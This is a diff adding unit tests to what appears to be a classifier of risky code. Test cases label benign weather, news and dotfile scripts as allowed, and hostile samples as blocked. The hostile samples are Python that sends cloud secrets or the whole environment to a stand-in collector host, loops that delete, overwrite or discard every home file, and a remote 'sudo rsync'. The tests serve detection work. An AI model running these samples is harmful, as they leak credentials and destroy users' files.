@@ -116,5 +116,78 @@ TEST(EleventhRoundClasses, DescriptorsAreTheFilesTheyOpened) {
   for (const auto& c : cases) check(c);
 }
 
+// An API key from the environment passed in the query under a key's name
+// (?appid=, &apiKey=, &token=) authenticates to that host, as a header
+// does (a weather CLI was BLOCKED as exfiltration); a secret under any
+// other name, or the whole environment, is still sent out.
+TEST(EleventhRoundClasses, AKeyInTheQueryAuthenticates) {
+  const Case cases[] = {
+      {"weather CLI: the key from the environment as appid", L,
+       "import os, sys, requests\nkey = os.getenv('OWM_API_KEY')\nzip_code = sys.argv[1]\n"
+       "url = f'http://api.openweathermap.org/data/2.5/weather?zip={zip_code},us&appid={key}'\n"
+       "print(requests.get(url).json())\n",
+       nullptr},
+      {"news client: apiKey through urllib", L,
+       "import os, urllib.request, json\nkey = os.environ['NEWS_API_KEY']\n"
+       "with urllib.request.urlopen(f'https://newsapi.org/v2/top-headlines?country=us&apiKey={key}') as r:\n"
+       "    print(json.load(r)['totalResults'])\n",
+       nullptr},
+      {"a cloud secret in the query under another name", B,
+       "import os, requests\nrequests.get(f\"https://collector.example.net/c?d={os.environ['AWS_SECRET_ACCESS_KEY']}\")\n",
+       "EXFILTRATION"},
+      {"the whole environment in the query, even as token", B,
+       "import os, requests, json\nrequests.get('https://collector.example.net/c?token=' + json.dumps(dict(os.environ)))\n",
+       "EXFILTRATION"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Renaming files found by a walk to backup names, or linking a repository's
+// dotfiles into the home directory, keeps every file (a move keeps what it
+// moves; a link never replaces a file): a dotfile manager was BLOCKED as a
+// wiper. Deleting or overwriting the walked files, or moving them into the
+// null device, is still a wipe.
+TEST(EleventhRoundClasses, MovesAndLinksOfWalkedFilesKeepThem) {
+  const Case cases[] = {
+      {"dotfile manager: existing files renamed, the repository's linked in", L,
+       "import os, time\nrun_dir = os.path.dirname(os.path.abspath(__file__))\nhome_dir = os.getenv('HOME')\n"
+       "bkp = '.{}.bkp'.format(time.strftime('%Y%m%d'))\nfor file in os.listdir(run_dir):\n"
+       "    if file.startswith('.'):\n        home_file = '{}/{}'.format(home_dir, file)\n"
+       "        if os.path.isfile(home_file):\n            os.rename(home_file, home_file + bkp)\n"
+       "        os.symlink('{}/{}'.format(run_dir, file), home_file)\n",
+       nullptr},
+      {"every home file removed", B,
+       "import os\nhome = os.path.expanduser('~')\nfor name in os.listdir(home):\n"
+       "    p = os.path.join(home, name)\n    if os.path.isfile(p):\n        os.remove(p)\n",
+       "WIPE"},
+      {"every home file overwritten", B,
+       "import os\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n"
+       "        with open(os.path.join(root, f), 'wb') as h:\n            h.write(b'\\0' * 1024)\n",
+       "WIPE"},
+      {"every home file moved into the null device", B,
+       "import os, shutil\nhome = os.path.expanduser('~')\nfor name in os.listdir(home):\n"
+       "    shutil.move(os.path.join(home, name), '/dev/null')\n",
+       "WIPE"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// rsync --rsync-path CMD names the program the remote side runs: `sudo
+// rsync` is a remote sudo (a backup pulling a host's files as root was a
+// process run); another rsync binary is not.
+TEST(EleventhRoundClasses, RsyncsRemoteProgramIsJudged) {
+  const Case cases[] = {
+      {"--rsync-path='sudo rsync' in a shell script", H,
+       "rsync -av --rsync-path=\"sudo rsync\" src/ host:/srv/app/\n", "PRIVILEGE-ESCALATION", SH},
+      {"--rsync-path 'sudo rsync' in an argument list", H,
+       "import subprocess\ncmd = ['rsync', '-a', '-e', 'ssh', '--rsync-path', 'sudo rsync', 'host:/var/www', 'backup/']\n"
+       "subprocess.call(cmd)\n",
+       "PRIVILEGE-ESCALATION"},
+      {"another rsync binary on the remote side", L,
+       "rsync -av --exclude .git --rsync-path=/usr/local/bin/rsync src/ backup@host:/srv/backup/\n", nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
